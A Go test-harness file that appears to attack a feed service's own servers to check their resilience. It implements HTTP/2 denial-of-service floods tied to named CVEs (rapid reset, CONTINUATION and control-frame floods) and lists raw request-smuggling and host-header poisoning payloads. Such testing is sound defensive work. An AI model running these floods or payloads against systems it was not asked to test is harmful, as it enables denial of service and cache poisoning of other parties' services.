package hostile

import (
	"bufio"
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"

	"golang.org/x/net/http2"

	"douyin.dev/test/harness"
)

// Frames and requests that bent HTTP comes in, a second: a laptop sends ten times
// as many, and an attack must not be the processor time of its own side.
const bentPerSecond = 3000

// rapidReset opens streams over four connections and resets each at once
// (CVE-2023-44487).
func rapidReset(ctx context.Context, a *Attacker) error {
	keep(ctx, 4, func(ctx context.Context, _ int) {
		c, err := a.h2(ctx)
		if err != nil {
			return
		}
		defer c.conn.Close()
		flood(ctx, endless, bentPerSecond/4, 1, func(ctx context.Context, _ int) {
			stream, err := c.open("GET", "/douyin/feed/", true)
			if err != nil || c.write(func(f *http2.Framer) error { return f.WriteRSTStream(stream, http2.ErrCodeCancel) }) != nil {
				_ = c.conn.Close()
			}
		})
	})
	return nil
}

// controlFrames sends pings, settings and priorities that want an answer each, and
// reads none (CVE-2019-9512, CVE-2019-9515).
func controlFrames(ctx context.Context, a *Attacker) error {
	return a.floodFrames(ctx, func(f *http2.Framer, i int) error {
		switch i % 3 {
		case 0:
			return f.WritePing(false, [8]byte{})
		case 1:
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
		default:
			return f.WritePriority(1, http2.PriorityParam{Weight: uint8(i)})
		}
	})
}

// continuations begins a head and goes on with it for ever (CVE-2023-45288).
func continuations(ctx context.Context, a *Attacker) error {
	block := headerBlock("x-field", strings.Repeat("v", 4000))
	return a.floodFrames(ctx, func(f *http2.Framer, i int) error {
		if i == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headerBlock(":method", "GET", ":scheme", "http", ":path", "/", ":authority", "x")})
		}
		return f.WriteContinuation(1, false, block)
	})
}

// windowUpdates opens the window a byte at a time, beyond what there is, and sends
// empty data (CVE-2019-9517, CVE-2019-9518).
func windowUpdates(ctx context.Context, a *Attacker) error {
	return a.floodFrames(ctx, func(f *http2.Framer, i int) error {
		switch {
		case i == 0:
			block := headerBlock(":method", "POST", ":scheme", "http", ":path", "/douyin/feed/", ":authority", a.host())
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndHeaders: true})
		case i%1000 == 999:
			return f.WriteWindowUpdate(1, 1<<31-1)
		case i%2 == 0:
			return f.WriteWindowUpdate(1, 1)
		default:
			return f.WriteData(1, false, nil)
		}
	})
}

// floodFrames writes frames over four connections and reads nothing of them. A
// connection that the platform ended is opened again.
func (a *Attacker) floodFrames(ctx context.Context, frame func(f *http2.Framer, i int) error) error {
	keep(ctx, 4, func(ctx context.Context, _ int) {
		conn, err := a.dial(ctx)
		if err != nil {
			return
		}
		defer conn.Close()
		frames := http2.NewFramer(conn, nil)
		if send(conn, http2.ClientPreface) != nil || frames.WriteSettings() != nil {
			return
		}
		ctx, cancel := context.WithCancel(ctx)
		defer cancel()
		flood(ctx, endless, bentPerSecond/4, 1, func(_ context.Context, i int) {
			_ = conn.SetWriteDeadline(time.Now().Add(time.Second))
			if frame(frames, i) != nil {
				cancel()
			}
		})
	})
	return nil
}

// malformedRequests sends requests that two servers would read differently: none
// is answered as more than one, and none as good.
func malformedRequests(ctx context.Context, a *Attacker) error {
	const smuggled = "GET /ping HTTP/1.1\r\nHost: x\r\n\r\n"
	begin := "POST /douyin/feed/ HTTP/1.1\r\nHost: x\r\n"
	requests := []struct{ name, text string }{
		{"two lengths", begin + "Content-Length: 0\r\nContent-Length: 30\r\n\r\n" + smuggled},
		{"two lengths in a list", begin + "Content-Length: 0, 30\r\n\r\n" + smuggled},
		{"a negative length", begin + "Content-Length: -1\r\n\r\n" + smuggled},
		{"a length with a sign", begin + "Content-Length: +0\r\n\r\n" + smuggled},
		{"an unknown encoding", begin + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + smuggled},
		{"an encoding twice", begin + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + smuggled},
		{"a blank before the colon", begin + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + smuggled},
		{"a chunk of a bad size", begin + "Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n" + smuggled},
		{"a chunk larger than a number", begin + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n\r\n" + smuggled},
		{"a NUL in a name", "GET /douyin/feed/ HTTP/1.1\r\nHost: x\r\nX\x00: 1\r\n\r\n"},
		{"a NUL in a value", "GET /douyin/feed/ HTTP/1.1\r\nHost: x\r\nX: a\x00b\r\n\r\n"},
		{"two hosts", "GET /douyin/feed/ HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n"},
		{"no host", "GET /douyin/feed/ HTTP/1.1\r\n\r\n"},
		{"a bad host", "GET /douyin/feed/ HTTP/1.1\r\nHost: x/y z\r\n\r\n"},
		{"a bad version", "GET /douyin/feed/ HTTP/9.9\r\nHost: x\r\n\r\n"},
		{"a bad method", "G(T /douyin/feed/ HTTP/1.1\r\nHost: x\r\n\r\n"},
		{"a head without end", "GET /" + strings.Repeat("a", 100_000) + " HTTP/1.1\r\nHost: x\r\n\r\n"},
	}
	problems := make(chan error, 1)
	flood(ctx, 20*len(requests), 100, 4, func(ctx context.Context, i int) {
		r := requests[i%len(requests)]
		if err := a.answeredAsBad(ctx, r.text); err != nil {
			select {
			case problems <- fmt.Errorf("%s: %w", r.name, err):
			default:
			}
		}
	})
	close(problems)
	return <-problems
}

// answeredAsBad sends a text and wants one answer at most, which is an error of
// HTTP or of the dialect, and then the end of the connection.
func (a *Attacker) answeredAsBad(ctx context.Context, text string) error {
	conn, err := a.dial(ctx)
	if err != nil {
		return nil // refused at the door is refused
	}
	defer conn.Close()
	_ = send(conn, text) // it may be refused before its end
	_ = conn.SetReadDeadline(time.Now().Add(7 * time.Second))
	answers := bufio.NewReader(conn)
	for n := 1; ; n++ {
		res, err := http.ReadResponse(answers, nil) //nolint:bodyclose // ReadAnswer closes it
		if err != nil {
			return nil // no further answer
		}
		answer, err := harness.ReadAnswer("", res)
		if n > 1 || err == nil && answer.HTTP == http.StatusOK && answer.Code() == 0 {
			return fmt.Errorf("answer %d is %s", n, res.Status)
		}
	}
}

// poisonedHosts reads the feed beside everybody with the names of other hosts: no
// answer that is shared has a link that another client named.
func poisonedHosts(ctx context.Context, a *Attacker) error {
	const host = "evil.example"
	client := a.client(0).WithHeader(http.Header{
		"Host": {host}, "X-Forwarded-Host": {host}, "X-Forwarded-Proto": {"https"}, "Forwarded": {"for=1.2.3.4;host=" + host + ";proto=https"},
	})
	problems := make(chan error, 1)
	flood(ctx, 3000, 500, 16, func(ctx context.Context, _ int) {
		answer, err := client.Get(ctx, "/douyin/feed/")
		if err == nil && strings.Contains(string(answer.Body), "https://") {
			select {
			case problems <- fmt.Errorf("a link believed a client that is no proxy: %.200s", answer.Body):
			default:
			}
		}
	})
	close(problems)
	return <-problems
}
